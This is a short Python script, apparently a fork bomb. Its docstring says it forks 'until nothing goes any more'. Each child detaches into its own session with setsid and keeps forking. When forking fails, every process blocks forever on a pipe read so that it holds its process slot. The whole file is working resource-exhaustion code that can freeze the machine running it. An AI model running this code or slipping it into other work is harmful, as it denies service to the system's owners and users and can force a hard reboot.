"""Fork until nothing goes any more, each child in a session of its own, and hold on."""

import os

made = 0
while True:
    try:
        if os.fork() == 0:
            os.setsid()
            while True:
                try:
                    os.fork()
                except OSError:
                    os.read(os.pipe()[0], 1)
        made += 1
    except OSError:
        os.read(os.pipe()[0], 1)
